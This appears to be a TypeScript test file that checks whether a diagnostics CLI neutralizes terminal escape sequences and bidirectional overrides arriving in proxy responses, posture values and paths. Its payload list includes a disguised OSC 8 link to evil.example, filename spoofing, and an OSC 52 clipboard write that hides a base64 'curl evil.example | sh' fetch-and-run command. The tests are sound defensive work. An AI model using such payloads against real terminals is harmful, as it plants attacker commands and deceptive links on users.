// Class 4, terminal: control characters, ESC/CSI/OSC sequences and bidirectional overrides in outside text (a
// proxy's reason phrase, a posture value, an XML value, a path typed on the command line) never reach a terminal:
// text output and stderr show them neutralized.
import { NOW_S } from '../../helpers/endpoint';
import {
  cleanup,
  localXml,
  makeEndpoint,
  postureJson,
  run,
  startRaw,
  type Case,
  type Check,
  type CliRun,
} from '../kit';

/** Payloads a hostile source would send a terminal. */
const PAYLOADS: Array<[string, string]> = [
  ['CSI: clear the screen and home the cursor', '\x1b[2J\x1b[H'],
  ['OSC 52: write the clipboard', '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'],
  ['OSC 8: a disguised hyperlink', '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\'],
  ['right-to-left override and isolates', 'gpj.\u202eexe\u2066x\u2069\u200f'],
  ['C1 CSI (0x9b) and BEL', '\u009b31mred\u0007'],
  ['backspaces and a carriage return overwriting text', 'healthy\b\b\b\b\b\b\b\r\x1b[1A'],
];

// eslint-disable-next-line no-control-regex -- the test looks for control characters
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const terminalSafe: Check = {
  name: 'stdout and stderr hold no control character, escape sequence or bidirectional override',
  check: (r: CliRun) => {
    const hit = CONTROL.exec(r.stdout) ?? CONTROL.exec(r.stderr);
    return hit ? `U+${hit[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${hit.index}` : null;
  },
};

function inConnectorVersion(payload: string, format: 'text' | 'json' = 'text') {
  return async () => {
    const stale = NOW_S - 40 * 3600;
    const e = makeEndpoint({
      posture: postureJson({ lastSuccess: stale }).replace('"8.1.7"', JSON.stringify(`8.1.7${payload}`)),
      localXml: localXml({ lastSuccess: stale }),
    });
    cleanup.push(e.remove);
    return run(['detect', '--amp-dir', e.root, '--offline', '--format', format]);
  };
}

function inProxyReason(payload: string) {
  return async () => {
    const proxy = await startRaw((s) =>
      s.once('data', () =>
        s.end(
          Buffer.concat([
            Buffer.from('HTTP/1.1 407 Denied '),
            Buffer.from(payload.replace(/[\r\n]/g, ''), 'utf8'),
            Buffer.from('\r\nContent-Length: 0\r\n\r\n'),
          ]),
        ),
      ),
    );
    cleanup.push(proxy.close);
    return run(
      [
        'probe',
        '--format',
        'text',
        '--update-server',
        'https://127.0.0.1:9/',
        '--timeout-ms',
        '3000',
        '--proxy',
        `http://127.0.0.1:${proxy.port}`,
      ],
      { now: null },
    );
  };
}

let id = 0;
const next = () => `E${String(++id).padStart(2, '0')}`;

export const TERMINAL: Case[] = [
  ...PAYLOADS.map(([words, payload]): Case => ({
    id: next(),
    area: 'terminal',
    input: `${words}, in posture's connector_version (detect, text)`,
    exit: 1,
    codes: null,
    output: 'text',
    run: inConnectorVersion(payload),
    checks: [terminalSafe],
  })),
  ...PAYLOADS.map(([words, payload]): Case => ({
    id: next(),
    area: 'terminal',
    input: `${words}, in a proxy's 407 reason phrase (probe, text)`,
    exit: 1,
    codes: null,
    output: 'text',
    run: inProxyReason(payload),
    checks: [terminalSafe],
  })),
  {
    id: next(),
    area: 'terminal',
    input: 'CSI and OSC sequences in a --ca-file path quoted by the usage error (stderr)',
    exit: 2,
    codes: [],
    run: () => run(['probe', '--ca-file', `/nonexistent/\x1b]52;c;ZXZpbA==\x07\x1b[2Jca.pem\u202e`]),
    checks: [terminalSafe],
  },
  {
    id: next(),
    area: 'terminal',
    input: "escape sequences in posture's connector_version (detect, JSON: neutralized in the data too)",
    exit: 1,
    codes: ['DEFINITIONS_STALE'],
    run: inConnectorVersion(PAYLOADS[0][1] + PAYLOADS[3][1], 'json'),
    checks: [
      {
        name: 'no escape sequence in any JSON value',
        check: (r) =>
          CONTROL.test(
            JSON.stringify(r.json ?? {}).replace(/\\u00[0-9a-f]{2}/g, (m) =>
              String.fromCharCode(parseInt(m.slice(2), 16)),
            ),
          ) || CONTROL.test(r.json?.connector?.version ?? '')
            ? 'control in a value'
            : null,
      },
    ],
  },
];
